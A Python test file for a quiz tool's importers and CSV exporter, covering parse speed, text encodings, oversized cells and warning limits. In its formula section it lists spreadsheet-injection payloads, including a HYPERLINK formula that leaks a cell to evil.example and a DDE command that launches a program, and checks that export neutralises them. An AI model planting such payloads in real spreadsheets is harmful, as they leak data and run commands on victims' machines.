"""Imports of large or strange files: linear in the file's size, clear about what they refuse, brief in warnings."""

from __future__ import annotations

import codecs
import csv
import dataclasses
import io
import os
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from quiz.exchange.aiken import parse_aiken
from quiz.exchange.common import MAX_WARNINGS, ExchangeError, Imported
from quiz.exchange.csvformat import export_csv, parse_csv
from quiz.exchange.giftread import parse_gift
from quiz.exchange.sheetcells import FORMULA_STARTS
from quiz.model import Pack, Text
from quiz.packs import PackError, load_pack

SHARED_TITLES = 20_000


def _gift(titles: list[str]) -> str:
    return "\n\n".join(f"::{title}::Claim number {n} is true.{{T}}" for n, title in enumerate(titles))


def _timed(text: str) -> tuple[float, Imported]:
    """The processor time a GIFT import of `text` takes, the best of two runs (the machine is shared); what it read."""
    best = float("inf")
    for _ in range(2):
        started = time.process_time()
        imported = parse_gift(text, "en")
        best = min(best, time.process_time() - started)
    return best, imported


@pytest.mark.slow
def test_gift_questions_sharing_a_title_import_in_linear_time() -> None:
    """20,000 questions titled alike take under twice as long as 20,000 titled apart, and get ids numbered in order."""
    distinct, _ = _timed(_gift([f"Vitamin K {n}" for n in range(SHARED_TITLES)]))
    shared, imported = _timed(_gift(["Vitamin K"] * SHARED_TITLES))
    ids = [question.id for question in imported.questions]
    assert ids[:3] == ["vitamin-k", "vitamin-k-2", "vitamin-k-3"] and ids[-1] == f"vitamin-k-{SHARED_TITLES}"
    assert len(set(ids)) == SHARED_TITLES
    assert shared < 2 * distinct, f"shared titles took {shared / distinct:.1f} times as long as distinct ones"


# == running the import as a teacher does ==========================================================


def quiz_import(folder: Path, name: str, fmt: str) -> subprocess.CompletedProcess[str]:
    """`quiz import NAME --format FMT` run in `folder`, as a teacher types it."""
    return subprocess.run(
        [sys.executable, "-m", "quiz", "import", name, "--format", fmt],
        cwd=folder, capture_output=True, text=True, timeout=60, env={**os.environ, "LANG": "en_US.UTF-8"},
    )  # fmt: skip


def one_error_line(result: subprocess.CompletedProcess[str]) -> str:
    """The run failed with exit code 1 and said why in one error line, with no traceback."""
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("quiz: error:")]
    assert len(errors) == 1, result.stderr
    return errors[0]


SHEET_HEADER = "id,kind,answer,question_en,explanation_en\n"


# == formulas (item 6) ============================================================================

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
    "=cmd|' /C calc'!A0",
    "+1 for sleep",
    "-5 °C is not cold enough to matter",
    "@SUM(A1:A9)",
    "'=already quoted",
]


def formula_pack(pack: Pack) -> Pack:
    """The sample pack with a formula-like text in each of its first questions' prompts and explanations."""
    questions = list(pack.questions)
    for n, text in enumerate(FORMULAS[: len(questions)]):
        questions[n] = dataclasses.replace(
            questions[n], prompt=Text.plain(text), explanation=Text.plain(text + " explained")
        )
    return dataclasses.replace(pack, languages=("en",), questions=tuple(questions))


def test_no_exported_cell_starts_a_formula(sample_pack: Pack) -> None:
    """A spreadsheet opening the exported sheet finds no cell it would run as a formula."""
    rows = list(csv.reader(io.StringIO(export_csv(formula_pack(sample_pack), ("en",)), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert '\'=HYPERLINK("http://evil.example/?leak="&B2,"Click")' in cells


def test_formula_texts_come_back_exactly(sample_pack: Pack) -> None:
    """Exported and imported again, every formula-like text is what it was, without the guarding quote."""
    pack = formula_pack(sample_pack)
    imported = parse_csv(export_csv(pack, ("en",)))
    assert [q.prompt.get("en") for q in imported.questions] == [q.prompt.get("en") for q in pack.questions]
    assert imported.questions[0].explanation.get("en") == FORMULAS[0] + " explained"


# == the wrong encoding (item 7) ==================================================================

MOJIBAKE = "维生素K对关节有益".encode("utf-8").decode("cp1252", errors="replace")


def test_a_sheet_garbled_by_the_wrong_encoding_is_refused(tmp_path: Path) -> None:
    """Mojibake in a cell: refused, naming the row, the column and what it should have said, with the way out."""
    sheet = SHEET_HEADER + f"vk-1,myth-fact,myth,{'ç»´ç”Ÿç´'},Why.\n"
    with pytest.raises(ExchangeError) as refused:
        parse_csv(sheet)
    message = str(refused.value)
    assert "row 2, question_en" in message and "维生" in message and "UTF-8" in message
    (tmp_path / "garbled.csv").write_text(sheet, encoding="utf-8")
    assert "looks like" in one_error_line(quiz_import(tmp_path, "garbled.csv", "csv"))
    assert not list(tmp_path.glob("*.yaml"))


def test_a_byte_order_mark_read_as_windows_1252_is_refused() -> None:
    """A header starting with ï»¿id (the ids would be lost, made anew) is refused with the way out."""
    with pytest.raises(ExchangeError, match="byte-order mark gone wrong.*UTF-8"):
        parse_csv("ï»¿" + SHEET_HEADER + "vk-1,myth-fact,myth,Claim,Why.\n")


def test_accented_and_chinese_text_is_not_taken_for_mojibake() -> None:
    """Text read rightly, however far from ASCII, imports as it is."""
    sheet = SHEET_HEADER + "a,,myth,Café et crème brûlée,Grüße\nb,,fact,维生素K1,5 °C – 70% «ok»\n"
    assert [q.prompt.get("en") for q in parse_csv(sheet).questions] == ["Café et crème brûlée", "维生素K1"]


def test_unknown_columns_are_named_in_a_warning() -> None:
    """A column the format does not know (a teacher's notes, a misspelt name) is named, not silently dropped."""
    sheet = "id,answer,question_en,explanation_en,notes,explaination_zh\nq,myth,Claim,Why,mine,oops\n"
    imported = parse_csv(sheet)
    assert len(imported.questions) == 1
    assert any("'notes', 'explaination_zh'" in str(warning) for warning in imported.warnings), imported.warnings


def test_the_spreadsheet_settings_that_keep_text_are_documented() -> None:
    """docs/exchange.md says how to open and save a sheet in each spreadsheet without its cells being changed."""
    docs = (Path(__file__).parents[2] / "docs" / "exchange.md").read_text(encoding="utf-8")
    for words in ("65001: Unicode (UTF-8)", "Column type: Text", "Convert text to numbers", "single quote", "OWASP"):
        assert words in docs, words


# == UTF-16 (item 9) ===============================================================================


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be"])
def test_a_utf16_sheet_with_its_mark_is_imported(tmp_path: Path, encoding: str) -> None:
    """Excel's "Unicode Text" (UTF-16, tab-separated, with a byte-order mark) imports like a UTF-8 sheet."""
    sheet = SHEET_HEADER.replace(",", "\t") + "vk-1\tmyth-fact\tmyth\t维生素K只管凝血\tIt does more.\n"
    data = sheet.encode(encoding)
    (tmp_path / "unicode.csv").write_bytes(data if encoding == "utf-16" else codecs.BOM_UTF16_BE + data)
    result = quiz_import(tmp_path, "unicode.csv", "csv")
    assert result.returncode == 0, result.stderr
    assert "维生素K只管凝血" in (tmp_path / "unicode.yaml").read_text(encoding="utf-8")


def test_a_utf16_gift_file_is_imported(tmp_path: Path) -> None:
    """A GIFT file saved as "Unicode" in Notepad imports."""
    (tmp_path / "notepad.gift").write_text("::vk::Vitamin K is only for clotting.{F}\n", encoding="utf-16")
    result = quiz_import(tmp_path, "notepad.gift", "gift")
    assert result.returncode == 0, result.stderr


def test_utf16_without_its_mark_is_named_not_called_binary(tmp_path: Path) -> None:
    """UTF-16 with no byte-order mark cannot be read for sure: the message says what it is and what to do."""
    (tmp_path / "nomark.csv").write_bytes((SHEET_HEADER + "q,,myth,Claim,Why\n").encode("utf-16-le"))
    line = one_error_line(quiz_import(tmp_path, "nomark.csv", "csv"))
    assert "is UTF-16 text without a byte-order mark: save it as UTF-8" in line
    assert "binary" not in line


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
def test_a_pack_saved_as_utf16_or_utf32_with_its_mark_loads(
    tmp_path: Path, sample_pack_path: Path, encoding: str
) -> None:
    """A pack saved as "Unicode" loads as the same pack."""
    text = sample_pack_path.read_text(encoding="utf-8")
    data = text.encode(encoding)
    if encoding == "utf-16-be":
        data = codecs.BOM_UTF16_BE + data
    path = tmp_path / "unicode.yaml"
    path.write_bytes(data)
    assert load_pack(path) == load_pack(sample_pack_path)


def test_a_pack_in_utf16_without_its_mark_says_so(tmp_path: Path, sample_pack_path: Path) -> None:
    path = tmp_path / "nomark.yaml"
    path.write_bytes(sample_pack_path.read_text(encoding="utf-8").encode("utf-16-le"))
    with pytest.raises(PackError) as refused:
        load_pack(path)
    [problem] = refused.value.problems
    assert problem.message == "this is UTF-16 text without a byte-order mark, not UTF-8"
    assert "UTF-8" in (problem.hint or "")


# == a huge cell (item 10) ==========================================================================


def test_a_cell_of_200000_characters_gives_one_clear_error(tmp_path: Path) -> None:
    """No `_csv.Error` traceback: one line naming the line of the sheet and what is wrong with it."""
    (tmp_path / "bigfield.csv").write_text(SHEET_HEADER + "q,,myth," + "x" * 200_000 + ",Why\n", encoding="utf-8")
    line = one_error_line(quiz_import(tmp_path, "bigfield.csv", "csv"))
    assert "line 2: a cell holds more than 131,072 characters" in line


# == warnings (item 12) =============================================================================

BAD_ROWS = 5_000


@pytest.mark.parametrize(
    "fmt",
    [
        ("csv", lambda: parse_csv(SHEET_HEADER + "q,,maybe,Claim,Why\n" * BAD_ROWS)),
        ("gift", lambda: parse_gift("Write about sleep.{}\n\n" * BAD_ROWS, "en")),
        ("aiken", lambda: parse_aiken("Which?\nA. x\nB. y\nANSWER: E\n\n" * BAD_ROWS, "en")),
    ],
    ids=["csv", "gift", "aiken"],
)
def test_every_format_shows_the_first_50_warnings_and_counts_the_rest(fmt: tuple[str, Callable[[], Imported]]) -> None:
    """5,000 bad questions give 50 warnings word for word and one line with the number of the others."""
    warnings = fmt[1]().warnings
    assert len(warnings) == MAX_WARNINGS + 1
    assert all("skipped" in str(warning) for warning in warnings[:MAX_WARNINGS])
    assert str(warnings[-1]) == f"{BAD_ROWS - MAX_WARNINGS:,} more warnings like these not shown"


def test_the_import_command_prints_the_capped_warnings(tmp_path: Path) -> None:
    """On the command line: 51 warning lines for 5,000 bad rows, however many there are."""
    sheet = SHEET_HEADER + "good,,myth,Claim,Why\n" + "q,,maybe,Claim,Why\n" * BAD_ROWS
    (tmp_path / "many.csv").write_text(sheet, encoding="utf-8")
    result = quiz_import(tmp_path, "many.csv", "csv")
    assert result.returncode == 0, result.stderr
    warnings = [line for line in result.stderr.splitlines() if line.startswith("quiz: warning:")]
    assert len(warnings) == MAX_WARNINGS + 1
    assert warnings[-1].endswith(f"{BAD_ROWS - MAX_WARNINGS:,} more warnings like these not shown")
